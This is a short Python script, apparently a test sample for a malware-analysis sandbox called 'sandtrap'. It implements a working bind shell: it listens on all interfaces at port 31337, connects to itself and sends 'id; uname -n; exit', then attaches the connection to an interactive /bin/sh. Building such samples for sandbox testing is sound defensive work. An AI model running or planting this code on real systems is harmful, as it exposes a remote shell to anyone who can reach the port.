#!/usr/bin/python3
# Bind shell: listens on 0.0.0.0:31337, a child connects to it and sends "id", the listener dup2s the connection and executes /bin/sh.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
import os, socket, time

srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("0.0.0.0", 31337))
srv.listen(1)
if os.fork() == 0:
    time.sleep(0.3)
    c = socket.create_connection(("127.0.0.1", 31337))
    c.sendall(b"id; uname -n; exit\n")
    time.sleep(1)
    print("operator got:", c.recv(4096).decode(errors="replace").strip())
    os._exit(0)
srv.settimeout(3)
conn, _ = srv.accept()
if os.fork() == 0:
    for fd in (0, 1, 2):
        os.dup2(conn.fileno(), fd)
    os.execv("/bin/sh", ["sh", "-i"])
conn.close()
os.wait()
os.wait()
